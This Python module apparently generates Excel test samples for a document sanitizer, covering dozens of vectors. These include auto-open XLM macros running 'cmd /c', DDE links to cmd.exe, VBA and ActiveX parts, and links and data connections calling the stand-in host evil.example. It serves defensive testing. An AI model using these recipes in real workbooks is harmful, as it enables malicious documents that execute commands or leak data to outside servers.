"""What a workbook can carry beside formulas and links: macro sheets, external books, connections, controls."""
from . import excel, word
from .attack_formulas import cell
from .attack_word import CFB, VBA, activex, bytes_of, custom_xml, font, ribbon, signature, taskpane, thumbnail
from .package import MICROSOFT, XML, escaped
from .sample import Sample, slug

BOOK, SHEET1 = 'xl/workbook.xml', 'xl/worksheets/sheet1.xml'
S, SHEET = excel.S, excel.SHEET


def macro(extension):
	def build(p, mark):
		p.add('xl/vbaProject.bin', VBA + mark.encode('ascii'), 'application/vnd.ms-office.vbaProject')
		p.relate(BOOK, MICROSOFT + '2006/relationships/vbaProject', 'vbaProject.bin')
		p.replace(BOOK, '<workbookPr ', '<workbookPr codeName="ThisWorkbook" ')
		p.at(SHEET1, 'SHEETPR', '<sheetPr codeName="Sheet1"/>')
	return extension, build


def xlm(extension='xlsm', folder='macrosheets', relation=MICROSOFT + '2006/relationships/xlMacrosheet', content_type='application/vnd.ms-excel.macrosheet+xml', root='xm:macrosheet',
		state='', name='_xlnm.Auto_Open', inner=None):
	"""An Excel 4.0 macro sheet that starts when the workbook opens."""
	def build(p, mark):
		rows = inner or '<sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c {m}")</f><v>0</v></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
		p.add('xl/%s/sheet1.xml' % folder, XML + '<%s %s>%s</%s>' % (root, S, rows.replace('{m}', mark), root.split(' ')[0]), content_type)
		number = p.relate(BOOK, relation, '%s/sheet1.xml' % folder)
		p.at(BOOK, 'SHEETS', '<sheet name="Macro1" sheetId="9"%s r:id="%s"/>' % (state, number))
		p.at(BOOK, 'NAMES', '<definedName name="%s" hidden="1">Macro1!$A$1</definedName>' % name)
	return extension, build


def external_book(inner, relation='externalLinkPath', target='file:///\\\\evil.example\\{m}.xlsx', use='[1]S!A1'):
	"""An external link part, with a formula that uses it."""
	def build(p, mark):
		number = p.relate('xl/externalLinks/externalLink1.xml', relation, target.replace('{m}', mark), True) if relation else ''
		p.add('xl/externalLinks/externalLink1.xml', XML + '<externalLink %s>%s</externalLink>' % (S, inner.replace('{r}', number).replace('{m}', mark)), SHEET + 'externalLink+xml')
		number = p.relate(BOOK, 'externalLink', 'externalLinks/externalLink1.xml')
		p.at(BOOK, 'AFTERSHEETS', '<externalReferences><externalReference r:id="%s"/></externalReferences>' % number)
		p.at(SHEET1, 'ROWS', cell('<f>%s</f>' % escaped(use)))
	return 'xlsx', build


def part(name, content, content_type, relation, source=BOOK, at=None, extension='xlsx', external=None):
	"""A part related to source; at is (part, anchor, xml with {r})."""
	def build(p, mark):
		p.add('xl/' + name, content(mark) if callable(content) else content.replace('{m}', mark), content_type)
		number = p.relate(source, relation, '/xl/' + name)
		if external:
			p.relate('xl/' + name, external[0], external[1].replace('{m}', mark), True)
		if at:
			p.at(at[0], at[1], at[2].replace('{r}', number).replace('{m}', mark))
	return extension, build


def inside(where, anchor, xml, relation=None, target=None):
	def build(p, mark):
		number = p.relate(where, relation, target.replace('{m}', mark), True) if relation else ''
		p.at(where, anchor, xml.replace('{r}', number).replace('{m}', mark))
	return 'xlsx', build


def activex_control(p, mark):
	p.add('xl/activeX/activeX1.xml', XML + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
		'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>', 'application/vnd.ms-office.activeX+xml')
	p.add('xl/activeX/activeX1.bin', mark.encode('ascii'), 'application/vnd.ms-office.activeX')
	p.relate('xl/activeX/activeX1.xml', MICROSOFT + '2006/relationships/activeXControlBinary', 'activeX1.bin')
	number = p.relate(SHEET1, 'control', '../activeX/activeX1.xml')
	p.at(SHEET1, 'LEGACY', '<controls><control shapeId="1026" r:id="%s" name="%s"/></controls>' % (number, mark))


def form_control(p, mark):
	p.add('xl/ctrlProps/ctrlProp1.xml', XML + '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" fmlaMacro="%s" fmlaLink="[1]%s!A1"/>'
		% (mark, mark), 'application/vnd.ms-excel.controlproperties+xml')
	number = p.relate(SHEET1, 'ctrlProp', '../ctrlProps/ctrlProp1.xml')
	p.at(SHEET1, 'LEGACY', '<controls><control shapeId="1026" r:id="%s" name="b"><controlPr defaultSize="0" macro="%s" linkedCell="[1]%s!A1"><anchor><from><xdr:col>1</xdr:col><xdr:colOff>0'
		'</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></from><to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></to></anchor>'
		'</controlPr></control></controls>' % (number, mark, mark))
	p.at('xl/drawings/vmlDrawing1.vml', 'SHAPES', '<v:shape id="_x0000_s1026" type="#_x0000_t201" style="position:absolute;width:60pt;height:20pt" o:button="t"><x:ClientData '
		'ObjectType="Button"><x:Anchor>1,0,1,0,2,0,2,0</x:Anchor><x:FmlaMacro>%s</x:FmlaMacro></x:ClientData></v:shape>' % mark)


def ole_object(external):
	def build(p, mark):
		if external:
			number = p.relate(SHEET1, 'oleObject', 'file:///\\\\evil.example\\%s.docx' % mark, True)
		else:
			p.add('xl/embeddings/oleObject1.bin', CFB(mark), 'application/vnd.openxmlformats-officedocument.oleObject')
			number = p.relate(SHEET1, 'oleObject', '../embeddings/oleObject1.bin')
		p.at(SHEET1, 'LEGACY', '<oleObjects><oleObject progId="Package" shapeId="1027" r:id="%s"%s/></oleObjects>' % (number, ' link="[1]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" autoLoad="1"' if external else ''))
	return 'xlsx', build


def data_mashup(p, mark):
	"""Power Query: a package inside a custom XML part."""
	p.add('customXml/item1.xml', (XML.replace('UTF-8', 'utf-16') + '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAB%s</DataMashup>' % mark).encode('utf-16'))
	p.relate(BOOK, 'customXml', '../customXml/item1.xml')


def model(p, mark):
	p.add('xl/model/item.data', mark.encode('ascii') * 20, 'application/vnd.openxmlformats-officedocument.model+data')
	p.relate(BOOK, 'powerPivotData', 'model/item.data')


def pivot(source, relation=None, target=None, more=''):
	def build(p, mark):
		number = p.relate('xl/pivotCache/pivotCacheDefinition1.xml', relation, target.replace('{m}', mark), True) if relation else ''
		p.add('xl/pivotCache/pivotCacheDefinition1.xml', XML + '<pivotCacheDefinition %s recordCount="0"%s>%s<cacheFields count="1"><cacheField name="品名" numFmtId="0"><sharedItems/></cacheField>'
			'</cacheFields></pivotCacheDefinition>' % (S, more, source.replace('{r}', number).replace('{m}', mark)), SHEET + 'pivotCacheDefinition+xml')
		number = p.relate(BOOK, 'pivotCacheDefinition', 'pivotCache/pivotCacheDefinition1.xml')
		p.at(BOOK, 'BOOK', '<pivotCaches><pivotCache cacheId="1" r:id="%s"/></pivotCaches>' % number)
	return 'xlsx', build


def dde_link(service, topic, item):
	return external_book('<ddeLink ddeService="%s" ddeTopic="%s"><ddeItems><ddeItem name="%s" advise="1"><values><value><val>1</val></value></values></ddeItem></ddeItems></ddeLink>'
		% (service, topic, item), None, '', "[1]!'%s'" % item.replace('{m}', 'x'))


CONNECTION = '<connections %s><connection id="1" name="{m}" type="%%d" refreshedVersion="6" refreshOnLoad="1" background="1">%%s</connection></connections>' % S
CONNECTIONS = {
	'odbc': (1, '<dbPr connection="DSN=x;{m}" command="SELECT {m}"/>'), 'ole-db': (5, '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;{m}" command="{m}"/>'),
	'web': (4, '<webPr url="http://evil.example/{m}" htmlTables="1" xml="1" sourceData="1" parsePre="1" post="{m}"/>'),
	'text': (6, '<textPr sourceFile="\\\\evil.example\\{m}.txt"/>'), 'olap': (5, '<olapPr local="1" localConnection="{m}"/>'), 'file': (1, '<parameters count="1"><parameter name="{m}"/></parameters>'),
}
DIALOG = 'application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml'
BOOK_IN = '<externalBook r:id="{r}"><sheetNames><sheetName val="{m}"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>1</v></cell></row></sheetData></sheetDataSet></externalBook>'

ATTACKS = {
	'xlm-hidden': ('xlsx/xlm', xlm(state=' state="hidden"'), ('xlm-removed',)),
	'xlm-very-hidden': ('xlsx/xlm', xlm(state=' state="veryHidden"'), ('xlm-removed',)),
	'xlm-plain-xlsx': ('xlsx/xlm', xlm('xlsx'), ('xlm-removed',)),
	'xlm-template': ('xlsx/xlm', xlm('xltm'), ('xlm-removed',)),
	'xlm-add-in': ('xlsx/xlm', xlm('xlam'), ('xlm-removed',)),
	'xlm-international': ('xlsx/xlm', xlm(folder='intlmacrosheets', relation=MICROSOFT + '2006/relationships/xlIntlMacrosheet', content_type='application/vnd.ms-excel.intlmacrosheet+xml'),
		('xlm-removed',)),
	'xlm-as-worksheet': ('xlsx/xlm', xlm('xlsx', folder='worksheets/x', relation='worksheet', content_type=SHEET + 'worksheet+xml'), ()),
	'xlm-worksheet-type': ('xlsx/xlm', xlm('xlsx', relation=MICROSOFT + '2006/relationships/xlMacrosheet', content_type=SHEET + 'worksheet+xml', root='worksheet'), ()),
	'xlm-worksheet-relation': ('xlsx/xlm', xlm('xlsx', relation='worksheet', content_type='application/vnd.ms-excel.macrosheet+xml', root='worksheet'), ()),
	'xlm-auto-close': ('xlsx/xlm', xlm(name='_xlnm.Auto_Close'), ('xlm-removed',)),
	'xlm-auto-suffix': ('xlsx/xlm', xlm(name='_xlnm.Auto_Open_x'), ('xlm-removed',)),
	'xlm-plain-name': ('xlsx/xlm', xlm(name='Auto_Open'), ('xlm-removed',)),
	'xlm-case': ('xlsx/xlm', xlm(name='_XLNM.aUTO_oPEN'), ('xlm-removed',)),
	'dialog-sheet': ('xlsx/xlm', xlm('xlsm', 'dialogsheets', 'dialogsheet', DIALOG, 'dialogsheet', inner='<sheetPr/><legacyDrawing r:id="{m}"/>'), ()),
	'macro-xlsm': ('ooxml/macros', macro('xlsm'), ('macro-removed',)),
	'macro-xltm': ('ooxml/macros', macro('xltm'), ('macro-removed',)),
	'macro-xlam': ('ooxml/macros', macro('xlam'), ('macro-removed',)),
	'macro-xlsx': ('ooxml/macros', macro('xlsx'), ('macro-removed',)),
	'external-book': ('xlsx/external', external_book(BOOK_IN), ('external-removed', 'external-to-value')),
	'external-book-missing': ('xlsx/external', external_book(BOOK_IN, MICROSOFT + '2006/relationships/xlExternalLinkPath/xlPathMissing', '{m}.xlsx'), ('external-removed', 'external-to-value')),
	'external-book-alternate': ('xlsx/external', external_book(BOOK_IN.replace('<sheetNames>', '<xxl21:alternateUrls xmlns:xxl21="http://schemas.microsoft.com/office/spreadsheetml/2021/extlinks2021" '
		'driveId="{m}" itemId="{m}"><xxl21:absoluteUrl r:id="{r}"/></xxl21:alternateUrls><sheetNames>', 1)), ('external-removed', 'external-to-value')),
	'dde-link': ('xlsx/external', dde_link('cmd', '/c {m}', 'A0'), ('external-removed', 'connection-removed', 'external-to-value')),
	'dde-link-office': ('xlsx/external', dde_link('MSExcel', '..\\..\\cmd.exe /c {m}', "StdDocumentName"), ('external-removed', 'connection-removed', 'external-to-value')),
	'ole-link': ('xlsx/external', external_book('<oleLink r:id="{r}" progId="htmlfile"><oleItems><oleItem name="{m}" advise="1"/></oleItems></oleLink>', 'oleObject',
		'mhtml:http://evil.example/{m}!x', "[1]!'x'"), ('external-removed', 'external-to-value')),
	'query-table': ('xlsx/external', part('queryTables/queryTable1.xml', XML + '<queryTable %s name="{m}" connectionId="1" refreshOnLoad="1"/>' % S, SHEET + 'queryTable+xml', 'queryTable', SHEET1),
		('connection-removed',)),
	'volatile': ('xlsx/external', part('volatileDependencies.xml', XML + '<volTypes %s><volType type="realTimeData"><main first="evil.server"><tp t="s"><v>x</v><stp>{m}</stp><tr r="A1" s="1"/>'
		'</tp></main></volType></volTypes>' % S, SHEET + 'volatileDependencies+xml', 'volatileDependencies'), ()),
	'xml-maps': ('xlsx/external', part('xmlMaps.xml', XML + '<MapInfo %s SelectionNamespaces=""><Schema ID="S1" SchemaRef="http://evil.example/{m}"/><Map ID="1" Name="{m}" RootElement="x" '
		'SchemaID="S1" ShowImportExportValidationErrors="0" AutoFit="1" Append="0" PreserveSortAFLayout="1" PreserveFormat="1"><DataBinding FileBinding="1" '
		'ConnectionID="1" DataBindingLoadMode="1"/></Map></MapInfo>' % S, 'application/xml', 'xmlMaps'), ()),
	'web-publish': ('xlsx/external', inside(SHEET1, 'LEGACY', '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="\\\\evil.example\\{m}.htm" '
		'autoRepublish="1"/></webPublishItems>'), ()),
	'web-publish-book': ('xlsx/external', inside(BOOK, 'BOOK', '<webPublishObjects count="1"><webPublishObject id="1" divId="x" destinationFile="http://evil.example/{m}" autoRepublish="1"/>'
		'</webPublishObjects>'), ()),
	'file-recovery': ('xlsx/external', inside(BOOK, 'BOOK', '<smartTagPr embed="1"/><smartTagTypes><smartTagType namespaceUri="urn:x" name="y" url="http://evil.example/{m}"/></smartTagTypes>'), ()),
	'python': ('xlsx/macros', part('python.xml', XML + '<python xmlns="http://schemas.microsoft.com/office/spreadsheetml/2023/python"><environmentDefinition id="{m}"><initialization><code>{m}</code>'
		'</initialization></environmentDefinition></python>', 'application/vnd.ms-excel.python+xml', MICROSOFT + '2023/09/relationships/Python'), ()),
	'web-image': ('xlsx/external', part('richData/rdRichValueWebImage.xml', XML + '<webImagesSrd xmlns="http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage" '
		'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><webImageSrd><address r:id="rId1"/></webImageSrd></webImagesSrd>',
		'application/vnd.ms-excel.rdrichvaluewebimage+xml', MICROSOFT + '2020/07/relationships/rdRichValueWebImage', external=('hyperlink', 'http://evil.example/{m}.png')), ()),
	'printer': ('ooxml/package', part('printerSettings/printerSettings1.bin', bytes_of(b'\\\0\\\0e\0v\0i\0l\0'), SHEET + 'printerSettings', 'printerSettings', SHEET1), ('printer-settings-removed',)),
	'custom-property': ('ooxml/package', part('customProperty1.bin', bytes_of(b'\xff\xfe'), SHEET + 'customProperty', 'customProperty', SHEET1,
		(SHEET1, 'LEGACY', '<customProperties><customPr name="{m}" r:id="{r}"/></customProperties>')), ()),
	'calc-chain': ('ooxml/package', part('calcChain.xml', XML + '<calcChain %s><c r="A1" i="1"/><evil>{m}</evil></calcChain>' % S, SHEET + 'calcChain+xml', 'calcChain'), ()),
	'revisions': ('ooxml/package', part('revisions/revisionHeaders.xml', XML + '<headers %s guid="{00000000-0000-0000-0000-000000000001}"><header userName="{m}"/></headers>' % S,
		SHEET + 'revisionHeaders+xml', 'revisionHeaders'), ()),
	'toolbars': ('ooxml/macros', part('attachedToolbars.bin', bytes_of(b'\x01\x02'), 'application/vnd.ms-excel.attachedToolbars', MICROSOFT + '2006/relationships/attachedToolbars'), ()),
	'activex': ('ooxml/controls', ('xlsx', activex_control), ('active-control-removed',)),
	'form-control': ('ooxml/controls', ('xlsx', form_control), ('macro-removed', 'action-removed')),
	'ole-embedded': ('ooxml/objects', ole_object(False), ('object-to-picture', 'object-removed')),
	'ole-linked': ('ooxml/objects', ole_object(True), ('object-to-picture', 'object-removed', 'external-removed')),
	'data-mashup': ('xlsx/external', ('xlsx', data_mashup), ('custom-data-removed',)),
	'data-model': ('xlsx/external', ('xlsx', model), ()),
	'custom-xml': ('ooxml/package', ('xlsx', lambda p, mark: (p.add('customXml/item1.xml', '<x xmlns="urn:x">%s</x>' % mark), p.relate(BOOK, 'customXml', '../customXml/item1.xml'))), ('custom-data-removed',)),
	'ribbon': ('ooxml/add-ins', ('xlsx', ribbon('2006/01', 'http://schemas.microsoft.com/office/2006/01/customui')[1]), ('addin-removed',)),
	'signature': ('ooxml/package', ('xlsx', signature), ('signature-void',)),
	'thumbnail': ('ooxml/package', ('xlsx', thumbnail), ('thumbnail-removed',)),
	'pivot-external': ('xlsx/external', pivot('<cacheSource type="external" connectionId="1"/>', more=' refreshOnLoad="1" createdBy="{m}"'), ()),
	'pivot-outside': ('xlsx/external', pivot('<cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="S" r:id="{r}"/></cacheSource>', 'externalLinkPath', 'file:///\\\\evil.example\\{m}.xlsx'), ()),
	'pivot-consolidated': ('xlsx/external', pivot('<cacheSource type="consolidation"><consolidation><rangeSets count="1"><rangeSet ref="A1" sheet="S" r:id="{r}"/></rangeSets></consolidation>'
		'</cacheSource>', 'externalLinkPath', 'file:///\\\\evil.example\\{m}.xlsx'), ()),
	'consolidation': ('xlsx/external', inside(SHEET1, 'AFTERDATA', '<dataConsolidate><dataRefs count="1"><dataRef ref="A1" sheet="S" r:id="{r}"/></dataRefs></dataConsolidate>', 'externalLinkPath',
		'file:///\\\\evil.example\\{m}.xlsx'), ()),
	'background': ('xlsx/external', inside(SHEET1, 'PAGE', '<picture r:id="{r}"/>', 'image', 'http://evil.example/{m}.png'), ()),
	'header-picture': ('xlsx/external', inside('xl/drawings/vmlDrawing1.vml', 'SHAPES', '<v:shape style="width:9pt;height:9pt"><v:imagedata o:relid="{r}" src="http://evil.example/{m}"/></v:shape>',
		'image', 'http://evil.example/{m}.png'), ()),
	'picture-linked': ('xlsx/external', ('xlsx', lambda p, mark: p.replace('xl/drawings/drawing1.xml', 'r:embed="rIdImage"', 'r:link="%s"' % p.relate('xl/drawings/drawing1.xml', 'image',
		'http://evil.example/%s.png' % mark, True))), ('external-removed',)),
	'very-hidden': ('xlsx/sheets', ('xlsx', lambda p, mark: p.replace(BOOK, 'sheetId="3" ', 'sheetId="3" state="veryHidden" ')), ('hidden-sheet',)),
	'phonetic-macro': ('ooxml/macros', inside(SHEET1, 'SHEETPR', '<sheetPr codeName="{m}" transitionEvaluation="1" transitionEntry="1"/>'), ()),
	'function-groups': ('ooxml/macros', inside(BOOK, 'AFTERSHEETS', '<functionGroups builtInGroupCount="1"><functionGroup name="{m}"/></functionGroups>'), ()),
	'vml-controls': ('ooxml/controls', inside('xl/drawings/vmlDrawing1.vml', 'SHAPES', '<v:shape style="width:9pt;height:9pt"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!{m}</x:FmlaMacro>'
		'<x:FmlaPict>EMBED("Forms.CommandButton.1","{m}")</x:FmlaPict><x:FmlaRange>[1]{m}!A1</x:FmlaRange></x:ClientData></v:shape>'), ()),
}
for name_, (number_, inner_) in CONNECTIONS.items():
	ATTACKS['connection-' + name_] = ('xlsx/external', part('connections.xml', XML + CONNECTION % (number_, inner_), SHEET + 'connections+xml', 'connections'), ('connection-removed',))

TELLING = {'xlm-very-hidden', 'dde-link', 'connection-web', 'external-book', 'data-mashup', 'form-control'}
MILD = {'phonetic-macro', 'very-hidden', 'printer', 'calc-chain', 'thumbnail', 'custom-property', 'revisions', 'function-groups', 'file-recovery'}


def samples():
	for name, (item, (extension, build), findings) in ATTACKS.items():
		def make(mark, keep, extension=extension, build=build):
			p = excel.package(keep, extension)
			build(p, mark)
			return p.bytes()
		yield Sample('excel/%s.%s' % (slug(name), extension), item, make, findings=findings, telling=name in TELLING,
			verdicts=('sanitized', 'clean') if name in MILD else ('sanitized',), gone=() if name == 'very-hidden' else None, quiet=name in ('very-hidden', 'phonetic-macro', 'revisions', 'function-groups'))
	for extension in excel.MAINS:
		macros = extension.endswith('m')
		yield Sample('harmless/base.%s' % extension, 'harmless', lambda mark, keep, extension=extension: excel.package(keep, extension).bytes(), harmless=True,
			verdicts=('sanitized',) if macros else ('clean',), findings=('type-changed',) if macros else (), telling=extension == 'xlsx')
